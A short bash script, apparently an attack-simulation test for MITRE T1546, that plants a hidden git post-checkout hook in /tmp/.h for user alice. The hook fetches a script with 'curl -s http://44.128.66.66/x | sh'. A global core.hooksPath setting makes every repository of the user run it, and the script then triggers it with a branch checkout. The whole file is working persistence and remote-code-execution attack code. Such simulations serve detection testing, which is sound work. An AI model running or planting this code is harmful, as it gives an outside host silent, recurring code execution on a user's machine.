#!/bin/bash
# T1546: Every repository of a user gets hooks from a hidden place.
setpriv --reuid 1001 --regid 1001 --clear-groups env HOME=/home/alice bash -c 'mkdir -p /tmp/.h; printf "#!/bin/sh\ncurl -s http://44.128.66.66/x | sh &\n" >/tmp/.h/post-checkout; chmod +x /tmp/.h/post-checkout
git config --global core.hooksPath /tmp/.h; cd; git init -q r; cd r; git -c user.email=a -c user.name=a commit -q --allow-empty -m x; git checkout -q -b y'
